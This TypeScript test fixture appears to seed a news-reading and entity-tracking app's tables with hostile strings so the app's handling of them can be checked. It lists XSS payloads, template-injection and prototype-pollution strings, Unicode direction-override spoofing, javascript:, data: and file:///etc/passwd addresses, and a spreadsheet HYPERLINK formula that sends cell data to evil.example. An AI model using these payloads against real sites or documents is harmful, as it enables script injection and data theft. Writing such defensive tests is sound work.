/** A library as a hostile page, or a file from somebody hostile, would like it to be: every string wants to be more than text. */

/** Sets `globalThis.hacked` where it is run as script. */
const RUN = 'globalThis.hacked=1';

export const HOSTILE_STRINGS = [
  `<img src=x onerror="${RUN}">`,
  `</title></style></script><script>${RUN}</script>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `'><svg/onload=${RUN}>`,
  `javascript:${RUN}`,
  `[click](javascript:${RUN}) ![x](javascript:${RUN})`,
  `<a href="javascript:${RUN}">click</a>`,
  `{{ "x".constructor.constructor("${RUN}")() }} \${${RUN}} {% raw %}`,
  '\u202Egnp.sselmrah\u202C\u2066 Moss \u200F\u2067 left',
  '=HYPERLINK("http://evil.example/?x="&A1;"Moss")',
  '-->]]><!--<!DOCTYPE html>',
  '__proto__',
  'constructor',
  `${'Long'.repeat(2_500)}`,
];

/** What stands where an address belongs. */
export const HOSTILE_ADDRESSES = [
  `javascript:${RUN}//https://news.example/`,
  `data:text/html,<script>${RUN}</script>`,
  'https://',
  'https://[',
  `https://news.example/"onclick="${RUN}`,
  'https://news.example/)](javascript:x)<script>',
  'file:///etc/passwd',
  'chrome://settings',
];

const id = (prefix: string, i: number): string => `${prefix}0000000-0000-7000-8000-${String(i).padStart(12, '0')}`;

/** As rows of the tables, some of which no writer of ours would let in. */
export function hostileLibrary(): Record<string, object[]> {
  const count = HOSTILE_STRINGS.length;
  const at = Array.from({ length: count }, (_, i) => i);
  const string = (i: number) => HOSTILE_STRINGS[i % count] ?? '';
  const articleId = (i: number) => String(i).padStart(64, 'f');
  const quote = (i: number) => `${string(i)} said ${string(i + 1)} had left ${string(i + 2)}.`;
  return {
    entities: at.map((i) => ({
      ...{ id: id('e', i), kind: i % 4 === 3 ? 'organization' : 'person', name: string(i), aliases: [string(i + 1)] },
      ...{
        nameKeys: [string(i)],
        nameTokens: [string(i).toLowerCase().slice(0, 20)],
        surfaces: { [`${i} ${string(i)}`]: 2 },
      },
      ...{ articleCount: 1, mentionCount: 2, firstMetAt: 1_700_000_000_000 + i, lastMetAt: 1_764_000_000_000 + i },
    })),
    articles: at.map((i) => ({
      ...{ id: articleId(i), url: HOSTILE_ADDRESSES[i % HOSTILE_ADDRESSES.length], title: string(i) },
      ...{
        siteName: i % 2 === 0 ? string(i + 3) : null,
        authors: [string(i + 4)],
        publishedAt: i % 3 ? '2026-03-03' : string(i),
      },
      ...{ modifiedAt: null, language: 'en', firstReadAt: 1_764_000_000_000, lastReadAt: 1_764_000_000_000 + i },
      contentHash: 'h',
    })),
    texts: at.map((i) => ({ articleId: articleId(i), text: quote(i), blocks: [] })),
    readings: at.map((i) => ({
      articleId: articleId(i),
      entityIds: [id('e', i)],
      appearances: [
        {
          ...{ kind: i % 4 === 3 ? 'organization' : 'person', name: string(i), aliases: [string(i + 1)] },
          mentions: [
            {
              start: 0,
              end: string(i).length,
              surface: string(i),
              kind: 'person',
              confidence: 1,
              reasons: [string(i)],
            },
          ],
          ...{ entityId: id('e', i), clusterId: id('e', i) },
        },
      ],
    })),
    claims: at.map((i) => ({
      ...{
        id: id('c', i),
        articleId: articleId(i),
        subjectId: id('e', i),
        objectId: null,
        subjectIndex: 0,
        objectIndex: null,
      },
      ...{ type: i % 2 ? 'end_position' : 'position', objectName: string(i + 2), title: string(i + 5), date: null },
      ...{ status: 'reported', former: false, subjectBasis: 'full-name', organizationBasis: 'clause', quote: quote(i) },
      ...{ start: 0, end: quote(i).length, method: 'test', confidence: 1 },
    })),
    notes: at.map((i) => ({
      ...{ id: id('a', i), target: { kind: i % 2 ? 'article' : 'entity', id: i % 2 ? articleId(i) : id('e', i) } },
      ...{
        anchor: null,
        body: `${string(i)}\n\n${HOSTILE_ADDRESSES[i % HOSTILE_ADDRESSES.length]}`,
        tags: [string(i).slice(0, 100)],
      },
      ...{ createdAt: 1_764_000_000_000, updatedAt: 1_764_000_000_000 + i },
    })),
    judgements: [
      {
        ...{ id: `${id('e', 0)} ${id('e', 1)}`, entityIds: [id('e', 0), id('e', 1)], verdict: 'unsure', by: 'machine' },
        ...{ reasonsFor: [`same-name:${string(0)}`], reasonsAgainst: [string(1)], madeAt: 1, score: 0.5 },
      },
    ],
  };
}
